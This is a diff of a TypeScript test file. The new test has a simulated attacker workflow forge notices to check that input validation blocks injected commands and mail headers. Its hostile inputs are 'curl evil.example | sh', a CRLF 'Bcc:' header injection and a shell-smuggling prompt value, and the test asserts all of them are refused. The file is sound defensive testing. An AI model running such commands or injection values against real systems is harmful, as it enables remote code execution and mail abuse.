@@ -1,19 +1,26 @@
-import { randomBytes } from 'node:crypto';
+import { randomBytes, randomUUID } from 'node:crypto';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { bundleWorkflowCode } from '@temporalio/worker';
 import { Webhook as Verifier } from 'standardwebhooks';
-import { expect, onTestFinished, test } from 'vitest';
+import { expect, inject, onTestFinished, test } from 'vitest';
+import type { WorkerActivities } from '../../activities/create-activities.ts';
+import { createInputJudge } from '../../activities/judge-input.ts';
 import { notify } from '../../activities/notices/notify.ts';
 import type { JournalEntry } from '../../plan/types/journal-entry.ts';
 import type { Notice } from '../../plan/types/notice.ts';
 import type { SiteInForce } from '../../plan/types/site-rules.ts';
+import { CALLMANAGER4 } from '../../platforms/callmanager4/platform.ts';
 import { holdSignal, resumeSignal } from '../../workflows/messages.ts';
 import { openMailServer } from '../activities/notices/mail-servers.ts';
-import { QUICK } from '../activities/notices/tell.ts';
+import { noticeWith, QUICK } from '../activities/notices/tell.ts';
 import { openWebServer } from '../activities/notices/web-server.ts';
 import { createAuthority } from '../worker/temporal/certificates.ts';
+import type { attack } from './attackers-workflow.ts';
 import { promptStep } from './sample-cluster.ts';
+import { startWorker } from './scripted-worker.ts';
 import { SignedRun } from './signed-run.ts';
 import { startToldRun, tellingSite } from './told-run.ts';
 
@@ -30,6 +37,11 @@ async function keepSecret(): Promise<{ readonly folder: string; readonly file: s
 
 /** People are reminded every second, others are told after one, and the run is held after two. */
 const IMPATIENT = { remindSeconds: 1, escalate: { afterSeconds: 1, to: ['approver'] }, holdAfterSeconds: 2 };
+
+const judge = createInputJudge(CALLMANAGER4);
+
+/** A worker of an attacker has to offer something. */
+const NOTHING = { nothing: () => Promise.resolve() } as unknown as WorkerActivities;
 
 /** A run whose worker tells people by these servers as that of the product does. */
 async function startReal(mailServer: string, hook: string, ca: string): Promise<SignedRun> {
@@ -50,7 +62,7 @@ async function startReal(mailServer: string, hook: string, ca: string): Promise<
   };
   const readSite = (): Promise<SiteInForce> => Promise.resolve(inForce as SiteInForce);
   return SignedRun.start({ PUB: [promptStep('PUB/disc')] }, lay, {
-    notify: (notice) => notify({ readSite, uiAddress: 'https://ui.example', pace: QUICK }, notice),
+    notify: async (notice) => notify({ readSite, uiAddress: 'https://ui.example', pace: QUICK }, judge.notice(notice)),
   });
 }
 
@@ -170,3 +182,41 @@ test('what is still on its way at a seam is told by the next run of the chain, u
   await signed.answer(await signed.run.untilOpen('SUB/disc#1'), { value: 'done', by: 'Ben' });
   expect(await signed.run.result()).toMatchObject({ state: 'completed', openItems: [] });
 }, 120_000);
+
+const attackers = bundleWorkflowCode({
+  workflowsPath: fileURLToPath(new URL('attackers-workflow.ts', import.meta.url)),
+});
+
+test('a notice that somebody sends by hand puts no command and no address of theirs into a mail', async () => {
+  const authority = await createAuthority();
+  onTestFinished(() => authority.remove());
+  const certified = await authority.certify('server');
+  const mails = await openMailServer({ cert: certified.certificate, key: certified.key });
+  const web = await openWebServer(certified);
+  const signed = await startReal(mails.place, web.url, authority.certificateFile);
+  const { taskQueue: theirs } = await signed.run.handle.describe();
+  const taskQueue = `attacker-${randomUUID()}`;
+  const worker = await startWorker(inject('temporalAddress'), taskQueue, () => NOTHING, attackers);
+  onTestFinished(() => worker.stop());
+  /** Has the attacker's workflow of that id send a notice. */
+  const forge = (workflowId: string, input: unknown): Promise<string> =>
+    signed.run.client.workflow.execute<typeof attack>('attack', {
+      taskQueue,
+      workflowId,
+      args: [{ queue: theirs, activity: 'notify', input }],
+    });
+  const lure = noticeWith({
+    text: 'run https://evil.example/now\r\nBcc: everybody@evil.example',
+    to: { people: ['Ben', 'everybody@evil.example'], groups: [] },
+  });
+  expect(await forge(`evil-${randomUUID()}`, lure)).toMatch(/INPUT_REFUSED: .* no run of a cluster/);
+  const own = `ccm/evil-${randomUUID().slice(0, 8)}`;
+  expect(await forge(own, { ...lure, command: 'curl evil.example | sh' })).toMatch(/INPUT_REFUSED/);
+  expect(await forge(own, { ...lure, asked: { ...lure.asked, prompt: "x#1'; sh" } })).toMatch(/INPUT_REFUSED/);
+  expect(await forge(own, { ...lure, kind: 'escalated' })).toBe('done');
+  const forged = mails.taken.filter(({ raw }) => raw.includes(own));
+  expect(forged.map(({ to }) => to)).toEqual([['ben@b.example']]);
+  const raw = forged[0]?.raw ?? '';
+  expect(raw).toContain(`ccmctl answer ${own.slice('ccm/'.length)} 'CM-PUB/disc#1' ...`);
+  expect(raw).not.toMatch(/^Bcc|:\/\/evil/m);
+});
